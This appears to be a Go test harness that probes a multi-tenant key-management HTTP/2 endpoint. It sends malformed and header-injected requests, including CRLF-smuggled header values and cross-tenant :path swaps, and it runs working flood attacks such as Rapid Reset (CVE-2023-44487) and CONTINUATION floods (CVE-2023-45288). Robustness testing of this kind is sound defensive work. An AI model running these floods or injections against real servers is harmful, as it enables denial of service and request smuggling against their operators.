package main

// Requests over HTTP/2 that are put together wrongly, and floods of frames.

import (
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// h2Trick changes a signed request's fields.
type h2Trick struct {
	name  string
	legal bool // it is served: all that is signed is as it was
	edit  func(t *target, fields []header) []header
}

// put gives a field another value.
func put(name, value string) func(*target, []header) []header {
	return func(_ *target, fields []header) []header {
		for i := range fields {
			if fields[i].name == name {
				fields[i].value = value
			}
		}
		return fields
	}
}

// first and last add a field before or after all others.
func first(name, value string) func(*target, []header) []header {
	return func(_ *target, fields []header) []header { return append([]header{{name, value}}, fields...) }
}

func last(name, value string) func(*target, []header) []header {
	return func(_ *target, fields []header) []header { return append(fields, header{name, value}) }
}

func drop(name string) func(*target, []header) []header {
	return func(_ *target, fields []header) []header {
		return slices.DeleteFunc(fields, func(h header) bool { return h.name == name })
	}
}

func h2Tricks(t *target) []h2Trick {
	theirs := t.Tenants[1].path("/health")
	return []h2Trick{
		{"as it is", true, func(_ *target, f []header) []header { return f }},
		{"te: trailers", true, last("te", "trailers")},
		{"host as well", true, last("host", t.host())},
		{"another host as well", true, last("host", "other")},
		{"an unsigned field more", true, last("x-extra", "1")},
		{"another :path", false, put(":path", theirs)},
		{"a second :path", false, first(":path", theirs)},
		{"a :path after the fields", false, last(":path", theirs)},
		{"no :path", false, drop(":path")},
		{"an empty :path", false, put(":path", "")},
		{"an absolute :path", false, put(":path", "https://localhost"+theirs)},
		{"* for a :path", false, put(":path", "*")},
		{"a :path with a line end", false, put(":path", theirs+" HTTP/1.1\r\nX: y")},
		{"a :path with dots", false, put(":path", "/agency/x/../kms/xks/v1/health")},
		{"a :path with a fragment", false, put(":path", "/agency/kms/xks/v1/health#x")},
		{"no :authority", false, drop(":authority")},
		{"an empty :authority", false, put(":authority", "")},
		{"another :authority", false, put(":authority", "other")},
		{
			"host in the place of :authority, another", false,
			func(t *target, f []header) []header { return last("host", "other")(t, drop(":authority")(t, f)) },
		},
		{"a second :authority", false, first(":authority", "other")},
		{"an :authority with a user", false, put(":authority", "x@"+t.host())},
		{"another :method", false, put(":method", "PUT")},
		{"a :method in lower case", false, put(":method", "post")},
		{"a second :method", false, first(":method", "GET")},
		{"CONNECT", false, put(":method", "CONNECT")},
		{"extended CONNECT", false, func(t *target, f []header) []header {
			return first(":protocol", "websocket")(t, put(":method", "CONNECT")(t, f))
		}},
		{"an unknown pseudo-field", false, first(":x", "y")},
		{"no :scheme", false, drop(":scheme")},
		{"a name in upper case", false, last("X-Extra", "1")},
		{"a name with a colon", false, last("x:y", "1")},
		{"a name with a blank", false, last("x y", "1")},
		{"an empty name", false, last("", "1")},
		{"a value with a line end", false, last("x-extra", "1\r\nauthorization: x")},
		{"a value with NUL", false, last("x-extra", "\x00")},
		{"connection: close", false, last("connection", "close")},
		{"transfer-encoding: chunked", false, last("transfer-encoding", "chunked")},
		{"upgrade", false, last("upgrade", "h2c")},
		{"te: gzip", false, last("te", "gzip")},
		{"content-length too small", false, put("content-length", "1")},
		{"content-length too large", false, put("content-length", "9999")},
		{
			"content-length twice", true, last("content-length", "1"),
		}, // net/http reads the first; frames say how long a body is
		{"authorization twice", false, last("authorization", "x")},
		{"x-amz-date twice", false, last("x-amz-date", "20200101T000000Z")},
		{"authorization as a cookie crumb", false, func(t *target, f []header) []header {
			return last("cookie", value(f, "authorization"))(t, drop("authorization")(t, f))
		}},
	}
}

// http2Requests sends every trick on a connection of its own, for every operation.
func http2Requests(ctx context.Context, t *target, n *tally) error {
	who := &t.Tenants[0]
	key := "/keys/" + who.Keys[0]
	for below, body := range map[string][]byte{"/health": healthBody(), key + "/encrypt": encryptBody("h2"), key + "/decrypt": decryptBody(t.Sealed[0]), key + "/metadata": metadataBody()} {
		for _, trick := range h2Tricks(t) {
			if ctx.Err() != nil {
				return fmt.Errorf("not all requests were sent: %w", ctx.Err())
			}
			fields := trick.edit(t, fieldsOf(newSketch(t, who, below, body)))
			c, err := t.dialH2()
			if err != nil {
				n.noteReply(nil, err)
				continue
			}
			answer, err := c.ask(fields, body)
			c.close()
			if err != nil {
				return err
			}
			n.note(answer)
			switch {
			case answer == "200" && trick.legal:
				n.legal()
			case answer == "200":
				n.accept("%s: %s", trick.name, describe(fields))
			case trick.legal:
				n.remark("legal, but not served: %s: %s", trick.name, answer)
			}
		}
	}
	return nil
}

// rapidReset opens streams and takes them back at once (CVE-2023-44487), signed as a tenant would.
func rapidReset(_ context.Context, t *target, n *tally) error {
	who := &t.Tenants[1]
	fields := fieldsOf(newSketch(t, who, "/keys/"+who.Keys[0]+"/encrypt", encryptBody("reset")))
	abused(t, n, t.seconds(10, 0.6), func(c *h2, _ int) error {
		id, err := c.open(c.headers(fields), false)
		if err != nil {
			return err
		}
		return c.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	})
	return nil
}

// continuationFlood sends a header that does not end (CVE-2023-45288).
func continuationFlood(_ context.Context, t *target, n *tally) error {
	fields := fieldsOf(newSketch(t, &t.Tenants[0], "/health", healthBody()))
	var filler []header
	for i := range 200 {
		filler = append(filler, header{fmt.Sprintf("x-%d", i), strings.Repeat("v", 40)})
	}
	abused(t, n, t.seconds(10, 0.6), func(c *h2, k int) error {
		if k == 0 {
			id := c.next
			return c.framer.WriteHeaders(
				http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(fields)},
			)
		}
		return c.framer.WriteContinuation(1, false, c.headers(filler))
	})
	return nil
}

// controlFlood sends SETTINGS, PING, PRIORITY, WINDOW_UPDATE, unknown and empty frames in turn.
func controlFlood(_ context.Context, t *target, n *tally) error {
	abused(t, n, t.seconds(10, 0.6), func(c *h2, k int) error {
		switch k / 1000 % 6 {
		case 0:
			return c.framer.WriteSettings(
				http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(k)},
			)
		case 1:
			return c.framer.WritePing(false, [8]byte{1})
		case 2:
			return c.framer.WritePriority(
				uint32(2*k+1), http2.PriorityParam{StreamDep: 0, Weight: 1},
			)
		case 3:
			return c.framer.WriteSettings(
				http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(k % 2 * 65536)},
			)
		case 4:
			return c.framer.WriteRawFrame(0xf0, 0, 0, bytes.Repeat([]byte{1}, 64))
		}
		return c.framer.WriteWindowUpdate(0, 1)
	})
	return nil
}

// unreadStreams asks on as many streams as it may, gives the answers no window, and reads nothing:
// unauthenticated, and on every fifth connection a tenant.
func unreadStreams(ctx context.Context, t *target, n *tally) error {
	count := t.amount(50, 10)
	body := encryptBody("unread")
	inParallel(ctx, count, count, func(i int) {
		c, err := t.dialH2()
		if err != nil {
			n.note("no connection")
			return
		}
		defer c.close()
		who := &t.Tenants[1]
		s := newSketch(t, who, "/keys/"+who.Keys[0]+"/encrypt", body)
		if i%5 != 0 {
			s.secret = "nobody's"
		}
		fields := c.headers(fieldsOf(s))
		_ = c.framer.WriteSettings(
			http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0},
		) // the next write tells
		sent := c.flood(t.seconds(15, 1), func(int) error {
			time.Sleep(40 * time.Millisecond)
			id, err := c.open(fields, false)
			if err != nil {
				return err
			}
			return c.framer.WriteData(id, true, body)
		})
		n.noteMany("streams", sent)
	})
	return nil
}
